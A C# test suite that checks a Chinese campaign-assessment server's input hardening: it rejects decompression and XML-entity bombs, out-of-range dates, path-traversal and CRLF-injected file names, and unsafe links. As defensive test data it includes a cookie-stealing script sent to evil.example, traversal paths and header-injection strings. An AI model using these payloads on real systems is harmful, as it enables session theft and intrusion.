using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Chengxin.Server.Features.Campaigns;
using Chengxin.Server.Features.Submissions;
using Chengxin.Server.Infrastructure;
using Chengxin.Server.Tests.Infrastructure;

namespace Chengxin.Server.Tests;

/// <summary>
/// Issue 12's findings on input (F7 workbooks, F11 out-of-range values, F12 file names and links, F13 API routes):
/// each answer is a 4xx ProblemDetails with a Chinese reason, never a 500, an OutOfMemory or the web app's 404.
/// </summary>
public abstract class InputHardeningTests(AppFixture app)
{
    private static ByteArrayContent Workbook(byte[] bytes)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue(Xlsx.ContentType);
        return content;
    }

    private static string FileError(JsonElement problem) => problem.GetProperty("errors").GetProperty("file")[0].GetString()!;

    [Fact]
    public async Task ImportUnits_DecompressionBomb_Returns400NamingTheLimit()
    {
        var admin = await app.SessionAsync("a-admin");
        // 150 MB of sheet XML in about 150 KB: the header is right, so only the size can stop it.
        var bomb = BadFiles.DecompressionBomb(BadFiles.UnitHeader, 150);
        bomb.Length.ShouldBeLessThan(1024 * 1024);

        var problem = await (await admin.PostAsync("/api/units/import", Workbook(bomb))).ProblemAsync(HttpStatusCode.BadRequest);
        FileError(problem).ShouldContain("解压后超过 100 MB");
    }

    [Fact]
    public async Task ImportUnits_MoreRowsThanTheCap_Returns400BeforeReadingThemAll()
    {
        var admin = await app.SessionAsync("a-admin");
        var problem = await (await admin.PostAsync("/api/units/import", Workbook(BadFiles.RowBomb(BadFiles.UnitHeader, 100_001))))
            .ProblemAsync(HttpStatusCode.BadRequest);
        FileError(problem).ShouldBe("工作表超过 100000 行，请拆分后分批导入。");
    }

    [Fact]
    public async Task ImportUsers_DtdBillionLaughsOrBrokenXml_Returns400WithTheReason()
    {
        var admin = await app.SessionAsync("a-admin");
        string[] header = ["用户名", "姓名", "单位编码", "角色", "状态"];

        var external = await (await admin.PostAsync("/api/users/import", Workbook(BadFiles.WithDtd(header)))).ProblemAsync(HttpStatusCode.BadRequest);
        var laughs = await (await admin.PostAsync("/api/users/import", Workbook(BadFiles.BillionLaughs(header)))).ProblemAsync(HttpStatusCode.BadRequest);
        var broken = await (await admin.PostAsync("/api/users/import", Workbook(BadFiles.MalformedXml(header)))).ProblemAsync(HttpStatusCode.BadRequest);

        FileError(external).ShouldContain("含有文档类型定义（DTD）");
        FileError(laughs).ShouldContain("含有文档类型定义（DTD）");
        FileError(broken).ShouldContain("的 XML 无效");
    }

    [Fact]
    public async Task ImportUnitsAndUsers_NotAZip_Returns400NotConflict()
    {
        var admin = await app.SessionAsync("a-admin");
        foreach (var url in new[] { "/api/units/import", "/api/users/import" })
        {
            FileError(await (await admin.PostAsync(url, Workbook(BadFiles.NotAZip()))).ProblemAsync(HttpStatusCode.BadRequest))
                .ShouldBe("文件不是有效的 Excel（.xlsx）工作簿，请用 Excel 另存为 .xlsx 后重新上传。");
            await (await admin.PostAsync(url, Workbook(BadFiles.ZipWithoutWorkbook()))).ProblemAsync(HttpStatusCode.BadRequest);
        }
    }

    [Fact]
    public async Task ImportUnits_WrongHeader_Returns400OnTheHeaderAlone()
    {
        var admin = await app.SessionAsync("a-admin");
        var sheet = BadFiles.Sheet(["名称", "编码"], ["单位一", "X1"]);
        FileError(await (await admin.PostAsync("/api/units/import", Workbook(sheet))).ProblemAsync(HttpStatusCode.BadRequest))
            .ShouldBe("表头须为：编码、名称、上级编码、层级、类别、状态。");
    }

    [Fact]
    public async Task CreateCampaign_DatesInYearOne_Returns400OnEachField()
    {
        var admin = await app.SessionAsync("a-admin");
        var request = CampaignTests.OpenRequest("年份越界", [app.World.Unit("A-C1-T1").Id], evidenceDue: "0001-01-01T00:00") with
        {
            Schedule = new ScheduleRequest("0001-01-01T00:00", "0001-01-01T00:00", "9999-12-31T23:59", "0001-01-01T00:00:00Z", 10),
        };
        var errors = (await (await admin.PostJsonAsync("/api/campaigns", request)).ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");

        errors.GetProperty("schedule.evidenceDue")[0].GetString().ShouldBe("时间「0001-01-01T00:00」超出范围：年份应在 2000 至 2100 之间。");
        errors.GetProperty("schedule.liaisonDue")[0].GetString()!.ShouldContain("超出范围");
        errors.GetProperty("schedule.selfAssessmentDue")[0].GetString()!.ShouldContain("超出范围");
        errors.GetProperty("schedule.reviewDue")[0].GetString()!.ShouldContain("超出范围");
    }

    [Theory]
    [InlineData("0000Q1")]
    [InlineData("9999Q4")]
    [InlineData("0000-01")]
    [InlineData("0001-01-01..2022-03-31")]
    public async Task CreateCampaign_PeriodOutsideTheYearsServed_Returns400OnPeriodKey(string period)
    {
        var admin = await app.SessionAsync("a-admin");
        var request = CampaignTests.OpenRequest("期间越界", [app.World.Unit("A-C1-T1").Id], period: period);
        var errors = (await (await admin.PostJsonAsync("/api/campaigns", request)).ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");
        errors.GetProperty("periodKey")[0].GetString()!.ShouldContain("超出范围");
    }

    [Fact]
    public async Task CreateCampaign_100000UnitIds_Returns400BeforeAnyQuery()
    {
        var admin = await app.SessionAsync("a-admin");
        var request = CampaignTests.OpenRequest("单位过多", Enumerable.Range(1, 100_000).Select(i => (long)i).ToList());
        var errors = (await (await admin.PostJsonAsync("/api/campaigns", request)).ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");
        errors.GetProperty("unitIds")[0].GetString().ShouldBe("一个批次最多 20000 个参评单位，请按上级单位和类别选择或分批开展。");
    }

    [Fact]
    public async Task CreateCampaign_ShareFinerThanTenThousandths_Returns400()
    {
        var admin = await app.SessionAsync("a-admin");
        var request = CampaignTests.OpenRequest("比例过细", [app.World.Unit("A-C1-T1").Id]) with { SpotCheckShare = 0.00001m };
        var errors = (await (await admin.PostJsonAsync("/api/campaigns", request)).ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");
        errors.GetProperty("spotCheckShare")[0].GetString().ShouldBe("抽查比例最多保留四位小数。");
    }

    [Fact]
    public async Task GrantDeadlineException_DueInYearOne_Returns400()
    {
        var (admin, url) = await OpenCampaignAsync();
        var unitUrl = url[..url.LastIndexOf("/submission", StringComparison.Ordinal)];
        var errors = (await (await admin.PostJsonAsync($"{unitUrl}/deadline-exception", new { due = "0001-01-01T00:00", reason = "系统故障" }))
            .ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");
        errors.GetProperty("due")[0].GetString()!.ShouldContain("超出范围");
        var item = (await (await admin.PostJsonAsync($"{url}/items/2.1/deadline-exception", new { due = "0001-01-01T00:00", reason = "系统故障" }))
            .ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");
        item.GetProperty("due")[0].GetString()!.ShouldContain("超出范围");
    }

    private async Task<(HttpClient Admin, string Url)> OpenCampaignAsync()
    {
        var admin = await app.SessionAsync("a-admin");
        var campaign = await (await admin.PostJsonAsync("/api/campaigns", CampaignTests.OpenRequest("输入测试", [app.World.Unit("A-C1-T1").Id],
            evidenceDue: app.Clock.GetUtcNow().AddDays(5).ToString("o")))).ReadAsync<CampaignResponse>();
        (await admin.PostAsync($"/api/campaigns/{campaign.Id}/open", null)).EnsureSuccessStatusCode();
        return (admin, $"/api/campaigns/{campaign.Id}/units/{app.World.Unit("A-C1-T1").Id}/submission");
    }

    private static Task<HttpResponseMessage> UploadAsync(HttpClient client, string url, string fileName, byte[] bytes)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        return client.PostAsync($"{url}/items/2.1/evidence?fileName={Uri.EscapeDataString(fileName)}", content);
    }

    [Fact]
    public async Task UploadEvidence_HtmlNamedWithATrailingDot_IsReadAsHtmlAndRefused()
    {
        var (_, url) = await OpenCampaignAsync();
        var liaison = await app.SessionAsync("a-liaison");
        var page = Encoding.UTF8.GetBytes("<html><script>document.location='https://evil.example/?c='+document.cookie</script></html>");

        var problem = await (await UploadAsync(liaison, url, "evil.html.", page)).ProblemAsync(HttpStatusCode.BadRequest);
        FileError(problem).ShouldBe("文件扩展名为 .html，但内容是 纯文本；请上传与扩展名一致的文件。");
    }

    [Theory]
    [InlineData(@"..\..\报告.txt", "报告.txt")]
    [InlineData("../../报告.txt", "报告.txt")]
    [InlineData(@"C:\Users\张三\Desktop\报告.txt", "报告.txt")]
    [InlineData(" 报告 .txt.. ", "报告 .txt")]
    [InlineData("报告<1>:终稿?.txt", "报告_1__终稿_.txt")]
    public async Task UploadEvidence_PathsAndForbiddenCharacters_KeepsTheCleanLastPart(string sent, string stored)
    {
        var (_, url) = await OpenCampaignAsync();
        var liaison = await app.SessionAsync("a-liaison");
        var receipt = await (await UploadAsync(liaison, url, sent, Encoding.UTF8.GetBytes("工作总结"))).ReadAsync<EvidenceReceipt>();
        receipt.FileName.ShouldBe(stored);
    }

    [Theory]
    [InlineData("报告\r\nSet-Cookie: a=1.txt")]
    [InlineData("报告\0.txt")]
    [InlineData("报告\u202Etxt.exe")]
    [InlineData("..")]
    [InlineData(". . .")]
    public async Task UploadEvidence_NameThatCannotBeMadeSafe_Returns400OnFileName(string sent)
    {
        var (_, url) = await OpenCampaignAsync();
        var liaison = await app.SessionAsync("a-liaison");
        var problem = await (await UploadAsync(liaison, url, sent, Encoding.UTF8.GetBytes("工作总结"))).ProblemAsync(HttpStatusCode.BadRequest);
        problem.GetProperty("errors").GetProperty("fileName")[0].GetString()!.ShouldStartWith("文件名");
    }

    [Theory]
    [InlineData("https://user:pass@gov.example/notice", "不能包含用户名或密码")]
    [InlineData("https://gov.example/a\r\nSet-Cookie: a=1", "不能包含空格、换行或其他控制字符")]
    [InlineData("https://gov.example/a b", "不能包含空格、换行或其他控制字符")]
    [InlineData("ftp://gov.example/notice", "只接受以 http:// 或 https:// 开头的完整网址")]
    public async Task AddLink_UnsafeAddress_Returns400NamingWhy(string link, string reason)
    {
        var (_, url) = await OpenCampaignAsync();
        var liaison = await app.SessionAsync("a-liaison");
        var problem = await (await liaison.PostJsonAsync($"{url}/items/2.1/links", new EvidenceLinkRequest(link, "通知")))
            .ProblemAsync(HttpStatusCode.BadRequest);
        problem.GetProperty("errors").GetProperty("url")[0].GetString()!.ShouldContain(reason);
    }

    [Fact]
    public async Task ApiRoute_WrongContentType_Returns415Problem()
    {
        var admin = await app.SessionAsync("a-admin");
        var problem = await (await admin.PostAsync("/api/units", new StringContent("{}", Encoding.UTF8, "text/plain")))
            .ProblemAsync(HttpStatusCode.UnsupportedMediaType);
        problem.GetProperty("title").GetString().ShouldBe("不支持的内容类型");
        await (await admin.PostAsync("/api/units/import", new StringContent("编码,名称", Encoding.UTF8, "text/csv")))
            .ProblemAsync(HttpStatusCode.UnsupportedMediaType);
    }

    [Fact]
    public async Task ApiRoute_WrongMethod_Returns405Problem()
    {
        var admin = await app.SessionAsync("a-admin");
        var problem = await (await admin.DeleteAsync("/api/campaigns")).ProblemAsync(HttpStatusCode.MethodNotAllowed);
        problem.GetProperty("title").GetString().ShouldBe("不支持的请求方法");
    }

    [Fact]
    public async Task ApiRoute_UnknownPathAnyMethod_Returns404Problem()
    {
        var admin = await app.SessionAsync("a-admin");
        await (await admin.PostAsync("/api/no-such-thing", new StringContent("{}", Encoding.UTF8, "application/json"))).ProblemAsync(HttpStatusCode.NotFound);
        await (await admin.GetAsync("/api")).ProblemAsync(HttpStatusCode.NotFound);
    }
}

[Collection(SqliteCollection.Name)]
public sealed class InputHardeningTestsOnSqlite(SqliteApp app) : InputHardeningTests(app);

[Collection(PostgresCollection.Name)]
public sealed class InputHardeningTestsOnPostgres(PostgresApp app) : InputHardeningTests(app);
